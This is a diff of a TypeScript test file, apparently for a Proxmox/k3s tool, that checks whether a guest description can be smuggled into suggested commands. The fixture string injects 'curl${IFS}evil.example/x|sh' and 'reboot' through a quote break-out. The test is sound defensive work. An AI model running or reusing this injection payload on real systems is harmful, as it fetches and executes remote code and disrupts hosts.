@@ -66,14 +66,11 @@ describe.each([
 describe("the description of a foreign guest", () => {
   const evil = `#x of proxmox-k3s x';curl\${IFS}evil.example/x|sh; ${CLUSTER_ID}\nhostname: mail';reboot;'\n`;
 
-  it.each<TaskName>(["claim", "guard", "lxc"])(
-    "never becomes part of a command that a person is told to run: %s",
-    (task) => {
-      const run = hostWith(evil).script(task, task === "guard" ? "delete" : "update", VALUES);
-      expect(run.code).toBe(1);
-      expect(run.output).not.toMatch(/evil|reboot;|curl/);
-    },
-  );
+  it.each<TaskName>(["claim", "guard", "lxc"])("never becomes part of a command in a hint: %s", (task) => {
+    const run = hostWith(evil).script(task, task === "guard" ? "delete" : "update", VALUES);
+    expect(run.code).toBe(1);
+    expect(run.output).not.toMatch(/evil|reboot;|curl/);
+  });
 });
 
 describe("a number from a guest", () => {
